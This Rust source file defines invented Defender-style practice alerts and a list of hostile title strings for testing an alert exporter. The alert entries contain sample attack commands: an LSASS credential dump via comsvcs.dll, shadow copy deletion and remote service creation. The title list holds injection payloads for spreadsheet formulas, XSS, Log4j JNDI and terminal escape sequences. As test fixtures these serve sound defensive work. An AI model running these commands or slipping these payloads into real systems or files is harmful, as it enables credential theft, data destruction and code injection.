//! The words of the practice alerts. Invented; names of people and machines are examples.

/// A kind of alert.
pub(crate) struct Category {
    /// As the services name it.
    pub(crate) name: &'static str,
    pub(crate) titles: &'static [&'static str],
    pub(crate) description: &'static str,
    /// MITRE ATT&CK techniques.
    pub(crate) techniques: &'static [&'static str],
    pub(crate) threat: &'static str,
    pub(crate) family: &'static str,
    /// Which part of Defender saw it.
    pub(crate) source: Source,
    pub(crate) file: &'static str,
    pub(crate) command: &'static str,
}

/// Which part of Defender saw it.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Source {
    Antivirus,
    Edr,
    SmartScreen,
}

impl Source {
    /// As the legacy exporter writes it.
    pub(crate) const fn legacy(self) -> &'static str {
        match self {
            Self::Antivirus => "Antivirus",
            Self::Edr => "EDR",
            Self::SmartScreen => "SmartScreen",
        }
    }

    /// As the Defender services write it.
    pub(crate) const fn defender(self) -> &'static str {
        match self {
            Self::Antivirus => "WindowsDefenderAv",
            Self::Edr => "WindowsDefenderAtp",
            Self::SmartScreen => "WindowsDefenderSmartScreen",
        }
    }

    /// As Graph writes it.
    pub(crate) const fn graph(self) -> &'static str {
        match self {
            Self::Antivirus => "antivirus",
            Self::Edr => "microsoftDefenderForEndpoint",
            Self::SmartScreen => "smartScreen",
        }
    }
}

pub(crate) const CATEGORIES: &[Category] = &[
    Category {
        name: "Malware",
        titles: &[
            "Credential theft tool was found on a device",
            "Malware was prevented",
            "A known trojan was removed",
        ],
        description: "The antivirus found a file that is known to be harmful. It was caught while it was being written to \
                      disk; whether it ran is shown below. Check where the file came from and whether other devices have it.",
        techniques: &["T1204.002", "T1588.001"],
        threat: "HackTool:Win32/Practice!pz",
        family: "Practice",
        source: Source::Antivirus,
        file: "practice-tool.exe",
        command: "practice-tool.exe --quiet",
    },
    Category {
        name: "Execution",
        titles: &[
            "Suspicious PowerShell command line",
            "An Office program started a script host",
            "Suspicious file activity",
        ],
        description: "A script interpreter was started with an encoded command line by a program that does not usually do so. \
                      The command reached out to the network. Review the command line and the process that started it.",
        techniques: &["T1059.001", "T1027"],
        threat: "",
        family: "",
        source: Source::Edr,
        file: "powershell.exe",
        command: "powershell.exe -NoProfile -EncodedCommand UABSAEEAQwBUAEkAQwBFAA==",
    },
    Category {
        name: "CredentialAccess",
        titles: &["Sensitive credential memory was read", "Many failed sign-ins followed by a success"],
        description: "A process read the memory in which sign-in secrets are kept. Reset the passwords of the people who were \
                      signed in and look for sign-ins from unusual places.",
        techniques: &["T1003.001"],
        threat: "",
        family: "",
        source: Source::Edr,
        file: "rundll32.exe",
        command: "rundll32.exe comsvcs.dll, MiniDump 612 out.dmp full",
    },
    Category {
        name: "CommandAndControl",
        titles: &["Connection to a known control address", "Unusual number of connections to a new domain"],
        description: "The device connected to an address that is known to control infected devices. Isolate the device if the \
                      connection cannot be explained.",
        techniques: &["T1071.001", "T1573"],
        threat: "",
        family: "",
        source: Source::SmartScreen,
        file: "updater.exe",
        command: "updater.exe /check https://control.contoso.example/beat",
    },
    Category {
        name: "LateralMovement",
        titles: &["Remote service was created on another device", "Pass-the-ticket suspected"],
        description: "A service was installed on this device from another one, with an account that is not used for \
                      administration. Check the account and the device it came from.",
        techniques: &["T1021.002", "T1570"],
        threat: "",
        family: "",
        source: Source::Edr,
        file: "services.exe",
        command: "sc.exe \\\\server01 create practice binPath= \"C:\\Windows\\Temp\\practice.exe\"",
    },
    Category {
        name: "Ransomware",
        titles: &["Ransomware behaviour was blocked", "Shadow copies were deleted"],
        description: "Many files were changed in a short time and recovery points were removed. The process was stopped. Restore \
                      the files from a copy and find out how the process was started.",
        techniques: &["T1486", "T1490"],
        threat: "Ransom:Win32/PracticeLock.A",
        family: "PracticeLock",
        source: Source::Antivirus,
        file: "invoice 2026.pdf.exe",
        command: "vssadmin.exe delete shadows /all /quiet",
    },
];

/// Titles that break programs which quote, split, sort or print without care.
pub(crate) const HOSTILE: &[&str] = &[
    "Quote \" inside, comma, semicolon; pipe | and 'single'",
    "의심스러운 PowerShell 명령줄",
    "=cmd|'/C calc'!A0",
    "Ransomware 🔒 blocked 🛡️ twice",
    "<script>alert(1)</script> & friends",
    "偵測到可疑的登入活動",
    "Line one\nline two\ttabbed\r\nline three",
    "@SUM(1+1)*cmd, +1-555-0100",
    "Right-to-left \u{202e}exe.fdp\u{202c} name",
    "%s %n %x ${jndi:ldap://contoso.example/a} {{7*7}}",
    "C:\\Users\\x\\AppData\\Local\\Temp\\\\double\\",
    "null",
    "Zero\u{200b}width and combining e\u{301}",
    "A title that goes on and on, because somebody put the whole command line into it: powershell.exe -NoProfile \
     -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"Get-ChildItem -Recurse | ForEach-Object { $_.FullName }\"",
    "\t=HYPERLINK(\"https://contoso.example\")",
    "\r=1+1",
    "\u{ff1d}1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\u{0}=1+1",
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m",
    "\u{feff}\u{200b}=1+1",
    "\"=1+1\"",
];

/// Where every file of the alerts lies, escaped for JSON.
pub(crate) const FILE_PATH: &str = "C:\\\\Users\\\\Public\\\\Downloads";

/// Address and location of the network alerts.
pub(crate) const CONTROL_ADDRESS: &str = "203.0.113.77";
pub(crate) const CONTROL_URL: &str = "https://control.contoso.example/beat";

pub(crate) const USERS: &[&str] =
    &["liz.bean", "jay.hardee", "min-jun.kim", "yu-ting.chen", "o'neil", "svc_backup"];

pub(crate) const GROUPS: &[&str] = &["UKMachines", "FranceMachines", "Servers", ""];

pub(crate) const DEVICE_TAGS: &[&str] = &["", "Finance", "Kiosk"];

pub(crate) const CLOUD_TAGS: &[&str] = &["", "vip", "Pilot ring"];
